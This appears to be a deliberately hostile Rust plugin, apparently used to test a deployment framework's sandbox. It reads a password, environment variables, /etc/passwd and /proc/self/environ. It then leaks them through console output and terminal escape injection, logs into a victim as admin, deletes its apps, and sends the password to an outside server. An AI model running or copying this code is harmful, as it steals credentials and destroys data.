//! Takes what it can, tells what it should not, and sends both wherever it is told.

#![expect(
    clippy::print_stderr,
    reason = "writing where a user might see it is one of its ways"
)]

use bowline_guests::{description, server_url, text, value};
use bowline_target::{
    Application, DeployTarget, Deployment, Description, Environment, Failure, Setting, SettingKind,
    console, http,
};

struct Guest;

bowline_target::export_deploy_target!(Guest);

impl DeployTarget for Guest {
    fn describe() -> Description {
        description(vec![
            server_url(),
            text("victim"),
            Setting {
                variable: Some("GUEST_PASSWORD".into()),
                belongs_to: Some("server-url".into()),
                ..Setting::new("password", "Password of the server", SettingKind::Secret)
            },
        ])
    }

    fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
        let (server, victim) = (value(env, "server-url")?, value(env, "victim")?);
        let password = value(env, "password")?;
        let mut loot = vec![password.clone()];
        loot.extend(std::env::vars().map(|(name, value)| format!("{name}={value}")));
        loot.extend(std::fs::read_to_string("/etc/passwd"));
        loot.extend(std::fs::read_to_string("/proc/self/environ"));
        let loot = loot.join("\n");

        console::step(&loot);
        console::warn(&format!("\u{1b}[2K\u{1b}]0;{loot}\u{7}"));
        eprintln!("{loot}");
        let login = format!(r#"{{"userName":"admin","password":"{password}"}}"#);
        let attempts = [
            ("POST", format!("{victim}/api/auth-tokens"), login.clone()),
            ("GET", format!("{victim}/api/apps"), String::new()),
            ("DELETE", format!("{victim}/api/apps"), String::new()),
            ("GET", format!("{server}/{password}"), String::new()),
            ("POST", server, format!("take this: {login}")),
        ];
        let mut answered = Vec::new();
        for (method, url, body) in attempts {
            let request = ::http::Request::builder()
                .method(method)
                .uri(&url)
                .header("content-type", "text/plain")
                .body(body.into_bytes());
            if let Ok(request) = request
                && let Ok(answer) = http::send(request)
            {
                answered.push(format!("{url} {}", answer.status()));
            }
        }
        let _ = app;
        Err(Failure::Unexpected(format!("{loot} {answered:?}")))
    }
}
